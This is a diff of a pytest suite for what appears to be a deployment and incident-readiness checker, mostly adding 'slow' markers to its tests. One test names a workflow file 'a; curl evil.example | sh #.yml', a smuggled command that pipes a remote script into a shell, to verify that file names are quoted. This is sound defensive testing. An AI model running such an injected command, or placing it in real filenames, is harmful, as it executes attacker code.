@@ -33,6 +33,7 @@ def answers(world: Bakery, *arguments: str) -> dict[str, set[str]]:
     return found
 
 
+@pytest.mark.slow
 def test_every_check_answers_in_the_right_world_and_only_reads(world: Bakery) -> None:
     found = answers(world)
 
@@ -43,7 +44,7 @@ def test_every_check_answers_in_the_right_world_and_only_reads(world: Bakery) ->
     assert [path for path in posts if not path.endswith((KV_READ, "/graphql"))] == []
 
 
-@pytest.mark.sampled(12)
+@pytest.mark.slow
 @pytest.mark.parametrize("fault", FAULTS, ids=lambda fault: fault.name)
 def test_fault_is_found_by_its_check_and_by_no_other(world: Bakery, fault: Fault) -> None:
     fault.apply(world)
@@ -63,6 +64,7 @@ def test_faults_cover_the_checks_and_the_audit() -> None:
     assert sum(bool(each.finding) for each in FAULTS) >= 20
 
 
+@pytest.mark.slow
 def test_token_that_cannot_read_its_policies_proves_no_write(world: Bakery) -> None:
     world.sandbox.add_token(TOKEN, set(PERMISSIONS) - {"API Tokens Read"})
 
@@ -75,6 +77,7 @@ def test_token_that_cannot_read_its_policies_proves_no_write(world: Bakery) -> N
     assert "0 wrong, 1 not provable here, 60 right" in outcome.out
 
 
+@pytest.mark.slow
 def test_worker_with_one_release_has_nothing_to_roll_back_to_yet(world: Bakery) -> None:
     sandbox = world.sandbox
     sandbox.deploy("kiosk", sandbox.upload("kiosk", code="the first release"))
@@ -98,12 +101,14 @@ def test_hidden_repository_of_the_actions_is_not_provable(world: Bakery) -> None
     assert "GitHub does not show bakery/none to this token: it is private, or does not exist" in outcome.out
 
 
+@pytest.mark.slow
 def test_readable_repository_of_the_actions_is_right(world: Bakery) -> None:
     world.edit("responders:", "github: {actions: acme/operations}\nresponders:")
 
     assert "actions" in answers(world, "--only", "actions")["right"]
 
 
+@pytest.mark.slow
 def test_run_of_a_laptop_proves_the_write_of_its_runbook(world: Bakery) -> None:
     world.sandbox.add_token(TOKEN, set(PERMISSIONS) - {"API Tokens Read"})
     for runbook in ("rollback-worker", "rollback-pages", "maintenance", "feature"):
@@ -114,6 +119,7 @@ def test_run_of_a_laptop_proves_the_write_of_its_runbook(world: Bakery) -> None:
     assert "token-writes" in found["right"]
 
 
+@pytest.mark.slow
 def test_laptop_without_github_token_lists_what_it_cannot_prove(world: Bakery) -> None:
     world.environ["GITHUB_TOKEN"] = None
 
@@ -141,6 +147,7 @@ def test_unknown_check_is_refused_with_the_nearest(world: Bakery) -> None:
     assert 'no check "lables"; did you mean "labels"?' in outcome.err
 
 
+@pytest.mark.slow
 def test_unreachable_cloudflare_is_wrong_once(world: Bakery) -> None:
     world.sandbox.fault(status=502, times=None)
 
@@ -165,6 +172,7 @@ def test_fix_writes_workflows_and_labels_and_nothing_else(world: Bakery) -> None
     assert {request.path for request in github.requests if request.method != "GET"} == {"/repos/acme/operations/labels"}
 
 
+@pytest.mark.slow
 def test_fix_keeps_a_workflow_that_a_person_changed(world: Bakery) -> None:
     world.edit("timeout-minutes: 5", "timeout-minutes: 6", ".github/workflows/incident.yml")
     before = (world.folder / ".github/workflows/incident.yml").read_text()
@@ -221,6 +229,7 @@ class Workflow:
         return [each for each in found if any(label.name == "backout-doctor" for label in each.labels)]
 
 
+@pytest.mark.slow
 def test_job_checks_its_own_secrets_and_leaves_the_verdict_to_the_last_job(world: Bakery) -> None:
     jobs = Workflow(world)
     world.environ["BAKERY_TOKEN"] = None
@@ -233,6 +242,7 @@ def test_job_checks_its_own_secrets_and_leaves_the_verdict_to_the_last_job(world
     assert "labels" not in outcome.out
 
 
+@pytest.mark.slow
 def test_last_job_keeps_one_issue_until_nothing_is_wrong(world: Bakery) -> None:
     jobs = Workflow(world)
     world.environ["BAKERY_TOKEN"] = None
@@ -276,6 +286,7 @@ def test_secret_whose_value_is_a_common_word_spoils_no_id(world: Bakery) -> None
     assert found["worker-secrets", "live/shop"] == "right"
 
 
+@pytest.mark.slow
 def test_secret_is_masked_in_results_but_not_in_ids(world: Bakery) -> None:
     world.environ["OLD_MAIL_KEY"] = "secret"
     world.sandbox.github.put_secret("BAKERY_TOKEN", "of the repository", None)
@@ -286,6 +297,7 @@ def test_secret_is_masked_in_results_but_not_in_ids(world: Bakery) -> None:
     assert "secret" not in world.doctor().out.replace("repository-secrets", "")
 
 
+@pytest.mark.slow
 def test_database_without_migrations_is_not_wrong(world: Bakery) -> None:
     world.sandbox.d1.query(DATABASE, "DROP TABLE d1_migrations")
 
@@ -304,6 +316,7 @@ def test_only_the_token_for_databases_may_write_them(world: Bakery, github_envir
     assert ("it can delete a database" in outcome.out) is is_wrong
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("right", ["D1 Write", "D1 Read"])
 def test_token_that_hides_its_policies_may_write_databases_if_it_may_query_them(world: Bakery, right: str) -> None:
     rights = {*PERMISSIONS} - {"API Tokens Read", "D1 Write"} | {right}
@@ -324,6 +337,7 @@ def test_job_with_a_read_only_token_checks_no_service(world: Bakery) -> None:
     assert {row["answer"] for row in rows} == {"right"}
 
 
+@pytest.mark.slow
 def test_command_quotes_the_name_of_a_file(world: Bakery) -> None:
     """Anyone who can push a branch can name a workflow."""
     world.write(".github/workflows/a; curl evil.example | sh #.yml", "on: push\njobs: {}\n")
@@ -371,6 +385,7 @@ def test_ten_services_answer_within_ten_seconds_at_100_ms_per_call(world: Bakery
     assert time.monotonic() - began < 10
 
 
+@pytest.mark.slow
 def test_repository_before_its_first_push_and_drill_has_no_wrong_answer(world: Bakery) -> None:
     github = world.sandbox.github
     github.add_commit("Remove", "dana", files=dict.fromkeys(github.files(), None))
@@ -382,6 +397,7 @@ def test_repository_before_its_first_push_and_drill_has_no_wrong_answer(world: B
     assert (found["wrong"], found["not_provable"]) == (set(), {"pushed", "drill"})
 
 
+@pytest.mark.slow
 def test_private_repository_on_github_free_has_no_wrong_answer(world: Bakery) -> None:
     github = world.sandbox.github
     github.switches.plan = "free"
@@ -419,6 +435,7 @@ def test_repository_is_that_of_the_remote_origin(world: Bakery) -> None:
     assert answers(world, "--only", "labels")["not_provable"] == set()
 
 
+@pytest.mark.slow
 def test_equal_content_of_one_commit_is_no_problem(world: Bakery) -> None:
     files = {"index.html": b"<h1>Bread</h1>", "version.txt": b"1"}
     world.sandbox.pages.add_deployment(SITE, files=files, commit="1" * 40)
